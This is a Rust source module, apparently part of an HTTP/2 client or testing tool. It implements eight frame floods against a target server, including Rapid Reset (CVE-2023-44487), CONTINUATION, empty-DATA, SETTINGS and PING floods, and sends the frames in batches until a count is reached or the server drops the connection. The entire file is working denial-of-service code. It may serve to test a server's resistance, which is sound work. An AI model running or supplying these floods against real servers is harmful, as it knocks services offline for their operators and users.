//! Endless cheap frames: valid in HTTP/2, but never needed a thousand times.

use anyhow::Result;

use super::{
    Http2Peer,
    frame::{CANCEL, Frame, flag, kind},
    http2::head_of_post,
};

/// How many frames go out in one write.
const BATCH: u32 = 64;

/// The frame that is sent repeatedly.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// A request, and at once its reset (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316 and its kin).
    Continuation,
    /// Frames of a body with nothing in them (CVE-2019-9518).
    EmptyData,
    /// Settings, each of which is to be acknowledged (CVE-2019-9515).
    Settings,
    /// PINGs, each of which is to be answered (CVE-2019-9512).
    Ping,
    /// Priorities, which nothing obeys any more (RFC 9113, section 5.3.2).
    Priority,
    /// A window for one more byte.
    WindowUpdate,
    /// Frames of an unknown type, which the server must ignore.
    Unknown,
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::WindowUpdate,
        Self::Unknown,
    ];
}

/// Sends `count` of them, or fewer if the server ends the connection, and returns how many.
///
/// # Errors
/// If the connection ends before the first.
pub async fn flood(peer: &mut Http2Peer, flood: Flood, target: &str, count: u32) -> Result<u32> {
    let stream = match flood {
        Flood::EmptyData => peer.open(target).await?,
        Flood::Continuation => {
            let stream = peer.new_stream();
            peer.send(&Frame::new(kind::HEADERS, 0, stream, head_of_post(target))).await?;
            stream
        }
        _ => 0,
    };
    let mut sent = 0;
    while sent < count && !peer.has_ended() {
        let mut bytes = Vec::new();
        for _ in 0..BATCH.min(count - sent) {
            bytes.extend(unit(peer, flood, stream, target));
        }
        // The server may close the connection while this writes.
        if peer.send_bytes(&bytes).await.is_err() {
            break;
        }
        sent += BATCH.min(count - sent);
    }
    Ok(sent)
}

fn unit(peer: &mut Http2Peer, flood: Flood, stream: u32, target: &str) -> Vec<u8> {
    match flood {
        Flood::RapidReset => {
            let stream = peer.new_stream();
            peer.forget(stream);
            let flags = flag::END_HEADERS | flag::END_STREAM;
            let head = Frame::new(kind::HEADERS, flags, stream, head_of_post(target));
            [head.encode(), Frame::reset(stream, CANCEL).encode()].concat()
        }
        Flood::Continuation => {
            let field = super::hpack::encode([("x-more", "of the same")]);
            Frame::new(kind::CONTINUATION, 0, stream, field).encode()
        }
        Flood::EmptyData => Frame::new(kind::DATA, 0, stream, []).encode(),
        Flood::Settings => Frame::settings(&[]).encode(),
        Flood::Ping => Frame::ping(*b"and once").encode(),
        Flood::Priority => Frame::new(kind::PRIORITY, 0, 1, [0, 0, 0, 0, 16]).encode(),
        Flood::WindowUpdate => Frame::window(0, 1).encode(),
        Flood::Unknown => Frame::new(0xfa, 0xff, 0, *b"anything").encode(),
    }
}
